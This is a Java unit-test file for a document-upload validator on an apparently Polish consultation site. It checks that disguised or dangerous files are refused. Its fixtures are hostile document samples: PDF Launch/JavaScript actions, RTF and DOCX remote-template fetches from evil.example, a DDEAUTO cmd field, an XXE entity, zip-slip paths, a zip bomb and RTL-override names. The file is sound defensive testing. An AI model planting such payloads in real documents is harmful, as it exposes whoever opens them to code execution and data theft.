package pl.konsultacje.desk;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.ResourceBundle;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import pl.konsultacje.desk.Answers.UploadedFile;
import pl.konsultacje.platform.Refused;

class UploadRuleTests {

    private static UploadedFile file(String name, String content) {
        return new UploadedFile(name, "text/html", content.getBytes(StandardCharsets.ISO_8859_1));
    }

    private static byte[] zip(String... names) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (var name : names) {
                var entry = new ZipEntry(name);
                var content = name.equals("mimetype")
                        ? "application/vnd.oasis.opendocument.text".getBytes(StandardCharsets.US_ASCII)
                        : new byte[] {1};
                entry.setMethod(ZipEntry.STORED);
                entry.setSize(content.length);
                var checksum = new CRC32();
                checksum.update(content);
                entry.setCrc(checksum.getValue());
                zip.putNextEntry(entry);
                zip.write(content);
            }
        }
        return bytes.toByteArray();
    }

    @Test
    void takesTheMediaTypeFromTheContentAndNotFromTheBrowser() throws Exception {
        assertThat(UploadRule.DOCUMENT.check(file("C:\\pulpit\\projekt.PDF", "%PDF-1.7"), "draft"))
                .extracting(UploadedFile::fileName, UploadedFile::mediaType)
                .containsExactly("projekt.PDF", "application/pdf");
        assertThat(UploadRule.DOCUMENT
                        .check(new UploadedFile("a.docx", "", zip("[Content_Types].xml", "word/document.xml")), "draft")
                        .mediaType())
                .endsWith("wordprocessingml.document");
        assertThat(UploadRule.DOCUMENT
                        .check(new UploadedFile("a.odt", "", zip("mimetype", "content.xml")), "draft")
                        .mediaType())
                .isEqualTo("application/vnd.oasis.opendocument.text");
        assertThat(UploadRule.SCAN
                        .check(file("skan.jpeg", "\u00ff\u00d8\u00ff\u00e0"), "scan")
                        .mediaType())
                .isEqualTo("image/jpeg");
    }

    @ParameterizedTest
    @CsvSource({
        "projekt.pdf, MZ\u0090 program",
        "projekt.pdf, <html><script>alert(1)</script>",
        "projekt.docx, <html><script>alert(1)</script>",
        "projekt.odt, <html>",
        "projekt.doc, MZ",
        "projekt.rtf, <html>",
        "projekt.xlsx, MZ",
        "projekt.zip, MZ"
    })
    void refusesFileThatIsNotWhatItsNameSays(String name, String content) {
        assertThatThrownBy(() -> UploadRule.PUBLICATION.check(file(name, content), "documents"))
                .isInstanceOfSatisfying(Refused.class, refused -> {
                    assertThat(refused.code()).isEqualTo("refused.file.content");
                    assertThat(refused.field()).isEqualTo("documents");
                });
    }

    @Test
    void refusesOneOfficeFormatUnderTheNameOfAnother() throws Exception {
        var workbook = new UploadedFile("projekt.docx", "", zip("[Content_Types].xml", "xl/workbook.xml"));
        assertThatThrownBy(() -> UploadRule.PUBLICATION.check(workbook, "documents"))
                .isInstanceOfSatisfying(
                        Refused.class, refused -> assertThat(refused.code()).isEqualTo("refused.file.content"));
    }

    /** What each of these would do to whoever opens it, and that it is told in less than two seconds. */
    static Stream<Arguments> harmfulFiles() throws IOException {
        var rels = "<Relationships><Relationship Id='1' Type='http://x/%s' Target='http://evil.example/x'"
                + " TargetMode='External'/></Relationships>";
        return Stream.of(
                arguments("LOCKED", "a.pdf", bytes("%PDF-1.7\ntrailer << /Encrypt 5 0 R >>")),
                arguments("PROGRAM", "a.pdf", bytes("%PDF-1.7\n<< /S /JavaScript /JS (app.alert(1)) >>")),
                arguments("PROGRAM", "a.pdf", bytes("%PDF-1.7\n<< /S /Launch /F (cmd.exe) >>")),
                arguments("DAMAGED", "a.pdf", bytes("%PDF-1.7\n<html><script>alert(1)</script>")),
                arguments("PROGRAM", "a.rtf", bytes("{\\rtf1 {\\object\\objdata 0105}}")),
                arguments("FETCHES", "a.rtf", bytes("{\\rtf1 {\\*\\template http://evil.example/x.dotm}}")),
                arguments("PROGRAM", "a.doc", compound("_VBA_PROJECT")),
                arguments("PROGRAM", "a.xls", compound("\1Ole10Native")),
                arguments("LOCKED", "a.xls", compound("EncryptedPackage")),
                arguments("PROGRAM", "a.docx", office("word/vbaProject.bin", "x")),
                arguments("PROGRAM", "a.docx", office("word/activeX/activeX1.xml", "x")),
                arguments("PROGRAM", "a.docx", office("word/embeddings/oleObject1.bin", "x")),
                arguments(
                        "FETCHES",
                        "a.docx",
                        office("word/_rels/settings.xml.rels", rels.formatted("attachedTemplate"))),
                arguments("FETCHES", "a.docx", office("word/_rels/document.xml.rels", rels.formatted("image"))),
                arguments(
                        "FETCHES", "a.docx", office("word/footer1.xml", "<w:instrText>DDEAUTO c:\\cmd</w:instrText>")),
                arguments(
                        "DAMAGED", "a.docx", office("word/styles.xml", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///'>]>")),
                arguments("DAMAGED", "a.docx", office("../../etc/cron", "x")),
                arguments("DAMAGED", "a.docx", office("C:\\evil", "x")),
                arguments("DAMAGED", "a.docx", and(office("word/a.xml", "x"), bytes("<script>alert(1)</script>"))),
                arguments("DAMAGED", "a.docx", and(bytes("PK\3\4 GIF"), office("word/a.xml", "x"))),
                arguments("DAMAGED", "a.docx", Arrays.copyOf(office("word/a.xml", "x"), 150)),
                arguments("PROGRAM", "a.odt", openDocument("Basic/Standard/Module1.xml", "x")),
                arguments("LOCKED", "a.odt", openDocument("META-INF/manifest.xml", "<manifest:encryption-data/>")),
                arguments(
                        "FETCHES",
                        "a.odt",
                        openDocument("styles.xml", "<draw:image xlink:href=\"http://evil.example/1.png\"/>")),
                arguments("FORBIDDEN_INSIDE", "a.zip", archive("program.exe", "x")),
                arguments("FORBIDDEN_INSIDE", "a.zip", archive("strona.html", "x")),
                arguments("FORBIDDEN_INSIDE", "a.zip", archive("makra.docm", "x")),
                arguments("FORBIDDEN_INSIDE", "a.zip", archive("inne.zip", "x")),
                arguments("TOO_LARGE_INSIDE", "a.zip", bomb()));
    }

    @ParameterizedTest(name = "{0} {1} {index}")
    @MethodSource("harmfulFiles")
    void refusesWhatWouldHarmWhoeverOpensIt(String harm, String name, byte[] content) {
        var start = System.nanoTime();
        assertThatThrownBy(() -> UploadRule.PUBLICATION.check(new UploadedFile(name, "", content), "documents"))
                .isInstanceOfSatisfying(
                        Refused.class, refused -> assertThat(refused.code()).isEqualTo("refused.file." + harm));
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(2));
    }

    @Test
    void takesOrdinaryFilesWithLinksAndPictures() throws IOException {
        var link = "<Relationships><Relationship Id='1' Type='http://x/relationships/hyperlink'"
                + " Target='https://example.org' TargetMode='External'/></Relationships>";
        for (var file : List.of(
                new UploadedFile("a.docx", "", office("word/_rels/document.xml.rels", link)),
                new UploadedFile(
                        "a.odt",
                        "",
                        openDocument("content.xml", "<text:a xlink:href=\"https://example.org\">x</text:a>")),
                new UploadedFile("a.zip", "", archive("dane/powiaty.shp", "x")),
                new UploadedFile("a.doc", "", compound("WordDocument")))) {
            assertThat(UploadRule.PUBLICATION.check(file, "documents").content())
                    .isEqualTo(file.content());
        }
        for (var demo : List.of("wpresis-2021-projekt-programu.pdf", "wpresis-2021-formularz-konsultacji.docx")) {
            try (var stream = getClass().getResourceAsStream("/demo/" + demo)) {
                var content = stream.readAllBytes();
                assertThat(UploadRule.DOCUMENT
                                .check(new UploadedFile(demo, "", content), "draft")
                                .content())
                        .isEqualTo(content);
            }
        }
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] and(byte[] one, byte[] other) {
        var both = Arrays.copyOf(one, one.length + other.length);
        System.arraycopy(other, 0, both, one.length, other.length);
        return both;
    }

    private static byte[] compound(String stream) {
        return and(
                bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"), stream.getBytes(StandardCharsets.UTF_16LE));
    }

    private static byte[] office(String name, String content) throws IOException {
        return archive("[Content_Types].xml", "<Types/>", "word/document.xml", "<w:document/>", name, content);
    }

    private static byte[] openDocument(String name, String content) throws IOException {
        return archive("mimetype", "application/vnd.oasis.opendocument.text", name, content);
    }

    private static byte[] bomb() throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            zip.setLevel(1);
            zip.putNextEntry(new ZipEntry("zera.txt"));
            for (int million = 0; million < 210; million++) {
                zip.write(new byte[1_000_000]);
            }
        }
        return bytes.toByteArray();
    }

    /** @param namesAndContents in turn; stored, as a {@code mimetype} has to be */
    private static byte[] archive(String... namesAndContents) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            zip.setMethod(ZipOutputStream.STORED);
            for (int i = 0; i < namesAndContents.length; i += 2) {
                var content = namesAndContents[i + 1].getBytes(StandardCharsets.UTF_8);
                var entry = new ZipEntry(namesAndContents[i]);
                entry.setSize(content.length);
                var checksum = new CRC32();
                checksum.update(content);
                entry.setCrc(checksum.getValue());
                zip.putNextEntry(entry);
                zip.write(content);
            }
        }
        return bytes.toByteArray();
    }

    @ParameterizedTest
    @ValueSource(strings = {"a.exe", "a.html", "a.svg", "a.pdf.exe", "pdf", "", "a.pdf/", ".", "a.pdf\u202e.js"})
    void refusesWhatNobodyAskedFor(String name) {
        assertThatThrownBy(() -> UploadRule.PUBLICATION.check(file(name, "%PDF-1.7"), "documents"))
                .isInstanceOfSatisfying(
                        Refused.class, refused -> assertThat(refused.code()).isEqualTo("refused.file.PUBLICATION"));
    }

    @Test
    void refusesEmptyFile() {
        assertThatThrownBy(() -> UploadRule.SCAN.check(file("skan.png", ""), "scan"))
                .isInstanceOfSatisfying(
                        Refused.class, refused -> assertThat(refused.code()).isEqualTo("refused.file.empty"));
    }

    @ParameterizedTest
    @CsvSource({
        "../../etc/projekt.pdf, projekt.pdf",
        "'..\\..\\projekt.pdf', projekt.pdf",
        "'a\u0000b\r\nc.pdf', abc.pdf",
        "'fdp\u202e.pdf', fdp.pdf",
        "' zażółć gęślą jaźń.pdf ', zażółć gęślą jaźń.pdf"
    })
    void keepsOnlyTheNameThatIsSeen(String sent, String kept) {
        assertThat(UploadRule.safeName(sent)).isEqualTo(kept);
    }

    @Test
    void shortensLongNameButKeepsItsEnding() {
        assertThat(UploadRule.safeName("ą".repeat(300) + ".pdf")).hasSize(200).endsWith("ą.pdf");
        assertThat(UploadRule.safeName("ą".repeat(300))).hasSize(200);
    }

    @Test
    void everyRefusalHasItsSentence() {
        var sentences = ResourceBundle.getBundle("messages/desk", Locale.forLanguageTag("pl"));
        for (var rule : UploadRule.values()) {
            assertThat(sentences.getString("refused.file." + rule)).isNotBlank();
        }
        for (var harm : HarmfulContent.values()) {
            assertThat(sentences.getString("refused.file." + harm)).isNotBlank();
        }
        assertThat(sentences.getString("refused.file.content")).isNotBlank();
        assertThat(sentences.getString("refused.file.empty")).isNotBlank();
    }
}
